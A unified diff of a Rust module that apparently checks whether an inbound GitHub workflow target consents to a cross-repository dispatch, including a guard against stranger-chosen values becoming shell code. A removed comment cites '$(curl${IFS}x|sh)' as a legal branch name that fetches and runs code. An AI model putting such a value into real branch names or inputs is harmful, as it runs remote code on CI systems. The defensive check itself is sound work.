@@ -1,23 +1,25 @@
 //! The target's side: does one inbound target accept all of it.
 
+use super::case::{Case, source_words};
 use super::filter::{Filter, misfit};
 use super::known::{Edge, Identity};
-use super::source::Case;
-use super::target::value_of;
+use crate::environment::EnvironmentUse;
 use crate::name::GitRef;
-use crate::policy::{InboundRule, InboundTarget, Policy, Reruns, Source, Target, WorkflowRunSource};
+use crate::policy::{Accept, InboundRule, InboundTarget, Policy, Reruns, Source, Target, ValuePattern, is_harmless};
 use crate::quote::{quote, quote_all};
 use crate::reason::Reason;
-use crate::request::WorkflowDispatch;
+use crate::request::DispatchRequest;
 
 /// What is asked of the target's side.
 pub(super) struct Consent<'a> {
     pub(super) case: &'a Case<'a>,
     /// The outbound rule's source.
-    pub(super) source: &'a WorkflowRunSource,
+    pub(super) source: &'a Source,
     /// The outbound rule's target.
     pub(super) target: &'a Target,
-    pub(super) request: &'a WorkflowDispatch,
+    pub(super) request: &'a DispatchRequest,
+    /// What it does to an environment.
+    pub(super) environment: Option<&'a EnvironmentUse>,
     /// The repository behind the target's name.
     pub(super) identity: Identity,
     /// The repositories behind both names, the first time.
@@ -64,17 +66,16 @@ impl Consent<'_> {
             }
         };
         for rule in policy.inbound_from(case.repository()) {
-            let Source::WorkflowRun(source) = &rule.source else { continue };
-            if source.workflow != *case.workflow {
-                let (named, got) = (quote(&source.workflow), quote(case.workflow));
-                let message = format!("the inbound rule names {named} of {}, and {got} ran", quote(case.repository()));
+            if !case.is_named_by(&rule.source) {
+                let (named, got) = (source_words(&rule.source), case.words());
+                let message = format!("the inbound rule names {named} of {}, and {got}", quote(case.repository()));
                 keep(gap(Nearness::Repository, Reason::InboundNotAuthorized, message), rule.line);
                 continue;
             }
             let mut named = false;
             for target in rule.targets.iter().filter(|target| target.start == *start) {
                 named = true;
-                match self.gap(rule, source, target) {
+                match self.gap(rule, target) {
                     None => return Ok(target),
                     Some(gap) => keep(gap, target.line),
                 }
@@ -89,23 +90,23 @@ impl Consent<'_> {
     }
 
     /// The first condition that an inbound target does not meet.
-    fn gap(&self, rule: &InboundRule, source: &WorkflowRunSource, target: &InboundTarget) -> Option<Gap> {
-        self.filter_gap(source)
+    fn gap(&self, rule: &InboundRule, target: &InboundTarget) -> Option<Gap> {
+        self.filter_gap(&rule.source)
             .or_else(|| self.ref_gap(target))
             .or_else(|| self.input_gap(target))
-            .or_else(|| self.value_gap())
+            .or_else(|| self.value_gap(target))
             .or_else(|| self.identity_gap(rule))
-            .or_else(|| self.rerun_gap(source))
+            .or_else(|| self.rerun_gap(&rule.source))
     }
 
-    fn filter_gap(&self, source: &WorkflowRunSource) -> Option<Gap> {
+    fn filter_gap(&self, source: &Source) -> Option<Gap> {
         let (filter, message) = misfit(self.case, source, Some(self.source), "the inbound rule")?;
         Some(gap(Nearness::Target(filter), Reason::InboundNotAuthorized, message))
     }
 
     fn ref_gap(&self, target: &InboundTarget) -> Option<Gap> {
         let accepted = target.accept_refs.as_ref()?;
-        let git_ref = self.request.git_ref();
+        let git_ref = self.request.git_ref()?;
         if accepted.matches(branch_or_ref(git_ref)) || accepted.matches(git_ref.as_str()) {
             return None;
         }
@@ -115,7 +116,7 @@ impl Consent<'_> {
     }
 
     fn input_gap(&self, target: &InboundTarget) -> Option<Gap> {
-        let sent = self.request.inputs().keys();
+        let sent = self.target.inputs.keys();
         let refused: Vec<_> = sent.filter(|name| !target.accept_inputs.contains_key(*name)).collect();
         if refused.is_empty() {
             return None;
@@ -124,28 +125,56 @@ impl Consent<'_> {
             true => "none".to_owned(),
             false => format!("only {}", quote_all(target.accept_inputs.keys())),
         };
-        let message = format!("the inputs {} are not accepted: the target accepts {accepted}", quote_all(refused));
+        let message = format!("the {} {} are not accepted: the target accepts {accepted}", self.what(), quote_all(refused));
         Some(gap(Nearness::Ref, Reason::InputsNotAccepted, message))
     }
 
-    /// Whatever the target accepts, what a stranger can choose must not be able to become code.
-    fn value_gap(&self) -> Option<Gap> {
-        for (name, template) in &self.target.inputs {
-            for variable in template.variables().filter(|variable| variable.chosen_by_stranger()) {
-                let value = value_of(self.case, variable).unwrap_or_default();
-                if !harmless(&value) {
-                    let message = format!(
-                        "the input {} has the value {} of {}, which anybody can choose and which is not made of letters, \
-                         digits and `._/@+#=,-`, or starts with `-`",
-                        quote(name),
-                        quote(value),
-                        quote(variable),
-                    );
-                    return Some(gap(Nearness::Inputs, Reason::ValueNotAccepted, message));
+    /// What is sent along, as a plural noun.
+    fn what(&self) -> &'static str {
+        match self.request {
+            DispatchRequest::Workflow(_) => "inputs",
+            DispatchRequest::Event(_) => "properties",
+        }
+    }
+
+    /// The values are what the target accepts, and whatever it accepts, what a stranger can choose must not be able to become
+    /// code.
+    fn value_gap(&self, target: &InboundTarget) -> Option<Gap> {
+        for (name, value) in self.request.values() {
+            let Some(accept) = target.accept_inputs.get(&name) else { continue };
+            let message = match accept.refuses(&value) {
+                Some(wanted) => {
+                    format!("{} has the value {}, and the target accepts only {wanted}", quote(&name), quote(&value))
                 }
-            }
+                None => match self.dangerous(&name, accept) {
+                    Some(message) => message,
+                    None => continue,
+                },
+            };
+            return Some(gap(Nearness::Inputs, Reason::ValueNotAccepted, message));
         }
         None
+    }
+
+    /// What a stranger can choose of a value, and what is wrong with it.
+    fn dangerous(&self, name: &str, accept: &Accept) -> Option<String> {
+        // A login's characters are GitHub's own choice, and a bot's brackets are no code.
+        if matches!(accept.pattern, Some(ValuePattern::BranchAny | ValuePattern::Login)) {
+            return None;
+        }
+        let template = self.target.inputs.get(name)?;
+        template.variables().filter(|variable| variable.chosen_by_stranger()).find_map(|variable| {
+            let value = self.case.value_of(variable, self.environment).unwrap_or_default();
+            (!is_harmless(&value)).then(|| {
+                format!(
+                    "{} has the value {} of {}, which anybody can choose and which is not made of letters, digits and \
+                     `._/@+#=,-`, or starts with `-`",
+                    quote(name),
+                    quote(value),
+                    quote(variable),
+                )
+            })
+        })
     }
 
     /// Consent attaches to the repositories, not to their names. A `repository_id` in a rule confirms the repository.
@@ -167,10 +196,12 @@ impl Consent<'_> {
         changed(format!("{name} is now repository {id}, and the target's consent is for repository {expected}"))
     }
 
-    fn rerun_gap(&self, source: &WorkflowRunSource) -> Option<Gap> {
-        let (run, newest) = (self.case.run, self.newest?);
-        let any = self.source.reruns == Reruns::Any && source.reruns == Reruns::Any;
-        if run.attempt <= 1 || newest <= run.number || any {
+    fn rerun_gap(&self, source: &Source) -> Option<Gap> {
+        let (run, newest) = (self.case.run()?, self.newest?);
+        let any = [self.source, source]
+            .iter()
+            .all(|source| matches!(source, Source::WorkflowRun(source) if source.reruns == Reruns::Any));
+        if newest <= run.number || any {
             return None;
         }
         let (number, attempt) = (run.number, run.attempt);
@@ -190,9 +221,4 @@ fn gap(nearness: Nearness, reason: Reason, message: String) -> Gap {
 /// written so: it could have the name of an accepted branch.
 fn branch_or_ref(git_ref: &GitRef) -> &str {
     git_ref.as_str().strip_prefix("refs/heads/").unwrap_or(git_ref.as_str())
-}
-
-/// Whether a value can be pasted into a shell command without becoming one. `$(curl${IFS}x|sh)` is a legal branch name.
-fn harmless(value: &str) -> bool {
-    !value.starts_with('-') && value.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/@+#=,-".contains(&b))
 }
